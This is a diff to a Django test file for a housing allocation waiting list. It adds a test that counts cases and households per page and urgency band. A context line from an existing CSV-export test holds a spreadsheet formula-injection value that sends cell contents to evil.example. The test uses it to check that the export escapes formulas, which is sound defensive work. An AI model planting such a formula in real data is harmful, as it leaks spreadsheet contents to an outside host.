@@ -15,6 +15,7 @@ from django.urls import reverse
 from django.utils import translation
 
 from allocation.models import Offer, Unit
+from allocation.querysets import waiting_cases, waiting_counts, waiting_households
 from stord_bolig.models import Letter
 from tenancies.models import Lease
 from tests.allocation.conftest import DAY, TODAY, free_unit, waiting_case
@@ -270,6 +271,23 @@ def test_waiting_list__csv_is_semicolon_separated_with_a_header_and_no_formulas(
     assert by_case[application.ref][1] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"Klikk") Hansen'
     assert by_case[plain.ref][1] == str(plain.household.applicant)
     assert by_case[plain.ref][3] == "2026-10-01"
+
+
+@pytest.mark.django_db
+def test_waiting_list__counts_cases_for_the_pages_and_a_household_with_two_cases_once(english):
+    first = waiting_case(urgency="A")
+    waiting_case(urgency="A", kind="swap", household=first.household)  # the same household, waiting to swap too
+    for _ in range(50):
+        waiting_case(urgency="B")
+
+    everyone = english.get(reverse("allocation:waiting-list"))
+    band_a = english.get(reverse("allocation:waiting-list"), {"band": "A"})
+
+    assert (everyone.context["page"].paginator.count, everyone.context["households"]) == (52, 51)
+    assert everyone.context["page"].paginator.num_pages == 2  # fifty cases a page
+    assert "51 households waiting on 25.11.2026." in everyone.content.decode()
+    assert (band_a.context["page"].paginator.count, band_a.context["households"]) == (2, 1)
+    assert waiting_counts(TODAY) == (waiting_cases(TODAY).count(), waiting_households(TODAY)) == (52, 51)
 
 
 @pytest.mark.django_db
